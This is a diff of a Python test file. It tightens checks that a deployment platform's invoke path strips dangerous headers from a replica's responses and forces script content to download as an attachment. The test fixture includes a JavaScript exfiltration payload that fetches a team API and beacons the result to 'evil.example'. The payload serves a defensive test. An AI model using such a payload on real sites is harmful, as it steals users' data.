@@ -94,7 +94,6 @@ def test_r3_a_replica_cannot_set_lattices_or_notebooks_cookies_from_its_origin(
     assert set_cookies == ["mine=1; Path=/; HttpOnly"]
 
 
-@pytest.mark.xfail(strict=True, reason="R4: a replica's script and SW scope served as Lattice")
 def test_r4_the_invoke_path_never_serves_a_replicas_script_on_lattices_origin(
     acme: Team, asgi_live_server: str
 ) -> None:
@@ -104,6 +103,9 @@ def test_r4_the_invoke_path_never_serves_a_replicas_script_on_lattices_origin(
             (b"service-worker-allowed", b"/"),
             (b"access-control-allow-origin", b"https://evil.example"),
             (b"access-control-allow-credentials", b"true"),
+            (b"location", b"https://evil.example/"),
+            (b"set-cookie", b"x=1"),
+            (b"x-request-id", b"abc"),
         ],
         body=b"fetch('/api/v1/teams/').then(r => r.text())"
         b".then(t => navigator.sendBeacon('//evil.example', t))",
@@ -121,6 +123,37 @@ def test_r4_the_invoke_path_never_serves_a_replicas_script_on_lattices_origin(
     assert "ecmascript" not in content_type
     assert "service-worker-allowed" not in answer.headers
     assert "access-control-allow-credentials" not in answer.headers
+    assert "access-control-allow-origin" not in answer.headers
+    assert "location" not in answer.headers
+    assert "set-cookie" not in answer.headers
+    assert content_type == "application/octet-stream"
+    assert answer.headers["content-disposition"] == "attachment"
+    assert answer.headers["x-content-type-options"] == "nosniff"
+    assert answer.headers["x-request-id"] == "abc"  # a replica's own x- header passes
+
+
+def test_r4_the_invoke_path_keeps_safe_types_and_rebuilds_them(
+    acme: Team, asgi_live_server: str
+) -> None:
+    # A list of types is read by browsers as its last: never passed as sent.
+    listed = _replica_app([(b"content-type", b"text/plain, text/javascript")])
+    with serving(listed, name="listed-type-replica") as replica:
+        _deploy(acme, auth_mode="public", endpoints=[replica])
+        answer = httpx.get(f"{asgi_live_server}/api/v1/teams/acme/deployments/chat/invoke/x")
+    assert answer.headers["content-type"] == "application/octet-stream"
+    assert answer.headers["content-disposition"] == "attachment"
+
+
+def test_r4_json_answers_keep_their_type_on_the_invoke_path(
+    acme: Team, model_servers: list[str], asgi_live_server: str
+) -> None:
+    _deploy(acme, auth_mode="public", endpoints=model_servers[:1])
+    url = f"{asgi_live_server}/api/v1/teams/acme/deployments/chat/invoke/predict"
+    answer = httpx.post(url, json={"text": "hi"})
+    assert answer.status_code == 200
+    assert answer.headers["content-type"].startswith("application/json")
+    assert "content-disposition" not in answer.headers
+    assert answer.headers["cross-origin-resource-policy"] == "same-origin"
 
 
 @pytest.mark.xfail(strict=True, reason="R5: <slug>--<team> can exceed a DNS label's 63 bytes")
